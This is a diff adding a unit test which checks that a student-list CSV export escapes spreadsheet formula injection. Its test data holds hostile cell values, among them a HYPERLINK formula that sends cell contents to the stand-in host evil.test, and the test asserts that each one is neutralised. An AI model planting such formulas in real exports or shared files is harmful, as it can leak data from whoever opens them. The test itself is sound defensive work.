@@ -545,6 +545,41 @@ describe('My Students', () => {
     click.mockRestore();
   });
 
+  it('never writes a cell a spreadsheet would read as a formula', async () => {
+    const created: Blob[] = [];
+    Object.assign(URL, {
+      createObjectURL: vi.fn((blob: Blob) => {
+        created.push(blob);
+        return 'blob:students';
+      }),
+      revokeObjectURL: vi.fn(),
+    });
+    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
+    // A student chooses their own name at sign-up; a teacher opens the export in a spreadsheet.
+    const attacker = aStudent({
+      id: 'student-3',
+      firstName: '=HYPERLINK("https://evil.test/?"&A2,"Click")',
+      lastName: '@SUM(A1:A9)',
+      name: 'Eve',
+      email: 'eve@school.test',
+      courses: [{ courseId: 'course-1', courseTitle: '+1+1', progress: 10 }],
+      averageProgress: -5,
+    });
+    overview.mockResolvedValue(answer(paged([attacker])));
+    listAll.mockResolvedValue(ok([attacker]));
+    const { user } = renderPage();
+    await screen.findByRole('article', { name: 'Eve' });
+    await user.click(screen.getByRole('button', { name: 'Export CSV' }));
+
+    await waitFor(() => expect(click).toHaveBeenCalledTimes(1));
+    const [, row] = (await readBlob(created[0]!)).replace(/^\ufeff/, '').split('\r\n');
+    // Each such cell starts with an apostrophe (text to a spreadsheet); numbers stay numbers.
+    expect(row).toMatch(
+      /^"'=HYPERLINK\(""https:\/\/evil\.test\/\?""&A2,""Click""\)","'@SUM\(A1:A9\)",eve@school\.test,"'\+1\+1",-5,/,
+    );
+    click.mockRestore();
+  });
+
   it('says why an export failed and keeps the list', async () => {
     overview.mockResolvedValue(answer(paged([sara])));
     listAll.mockResolvedValue(fail('FETCH_USERS_ERROR', 'Failed to fetch', { status: 0 }));
